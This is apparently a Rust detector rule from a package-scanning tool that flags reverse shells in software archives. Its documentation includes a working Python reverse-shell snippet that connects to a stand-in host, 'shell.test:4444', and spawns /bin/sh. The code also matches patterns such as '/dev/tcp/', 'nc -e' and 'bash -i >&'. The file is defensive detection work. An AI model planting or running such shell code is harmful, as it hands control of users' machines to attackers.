//! Somebody else gets a shell.

use bulkhead_core::{Confidence, Severity};

use super::code::{Rule, bare_shell, doing, is_library, quoted, say, weigh, weigh_called, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, Behaviour, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "reverse-shell",
    title: "somebody else gets a shell",
    severity: Severity::Critical,
    confidence: Confidence::High,
    doc: "\
A connection is opened and a shell is tied to it, or what comes over a connection is run as commands: whoever is at the other end commands the machine.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import socket, subprocess, os
s = socket.socket()
s.connect(('shell.test', 4444))
os.dup2(s.fileno(), 0)
subprocess.call(['/bin/sh', '-i'])
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import subprocess
def run(command):
    return subprocess.call(['/bin/sh', '-c', command])
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in doing(archive, Ability::Shell).filter(|behaviour| behaviour.effect.from.any(Sources::NETWORK)) {
        let tied = behaviour.effect.detail.as_deref() == Some("dup2 of a socket");
        let weight = match (unasked(behaviour.context), tied) {
            (true, _) => (Severity::Critical, Confidence::High),
            // Servers duplicate sockets for their children; a shell beside it is something else.
            (false, true) if shell_in_unit(archive, behaviour) => weigh_called(behaviour),
            (false, false) if is_library(&behaviour.path) && !piped(archive, behaviour) => weigh_called(behaviour),
            (false, _) => (Severity::Medium, Confidence::Low),
        };
        say(findings, &META, behaviour, weight, format!("a shell is tied to a connection {}", when(behaviour.context)));
    }
    for behaviour in doing(archive, Ability::Spawn) {
        let detail = behaviour.effect.detail.as_deref().unwrap_or_default();
        if detail.contains("/dev/tcp/") || detail.contains("nc -e") || detail.contains("bash -i >&") {
            let weight = weigh(behaviour.context, Severity::Critical, Confidence::High);
            say(
                findings,
                &META,
                behaviour,
                weight,
                format!("a command gives somebody else a shell {}: {}", when(behaviour.context), quoted(behaviour)),
            );
        } else if bare_shell(detail) && connects(archive, behaviour) && is_library(&behaviour.path) {
            let weight = if unasked(behaviour.context) {
                (Severity::Critical, Confidence::High)
            } else {
                weigh_called(behaviour)
            };
            say(
                findings,
                &META,
                behaviour,
                weight,
                format!(
                    "a shell is started beside a connection of its own {}: {}",
                    when(behaviour.context),
                    quoted(behaviour)
                ),
            );
        }
    }
}

/// Whether the same function connects a socket.
fn connects(archive: &Archive, behaviour: &Behaviour) -> bool {
    doing(archive, Ability::Network).any(|other| {
        other.path == behaviour.path
            && other.unit == behaviour.unit
            && ["create_connection", ".connect("].iter().any(|call| other.effect.excerpt.contains(call))
    })
}

fn shell_in_unit(archive: &Archive, behaviour: &Behaviour) -> bool {
    doing(archive, Ability::Spawn).any(|other| {
        other.path == behaviour.path
            && other.unit == behaviour.unit
            && other
                .effect
                .detail
                .as_deref()
                .is_some_and(|detail| ["sh", "bash", "cmd"].iter().any(|shell| detail.contains(shell)))
    })
}

/// Whether the line gives a shell a script that it fetches: not good either, but nobody sits at the other end.
fn piped(archive: &Archive, behaviour: &Behaviour) -> bool {
    doing(archive, Ability::Spawn).any(|other| {
        other.path == behaviour.path
            && other.effect.line == behaviour.effect.line
            && other
                .effect
                .detail
                .as_deref()
                .is_some_and(|detail| detail.contains(['|', '$']) || detail.contains("://"))
    })
}
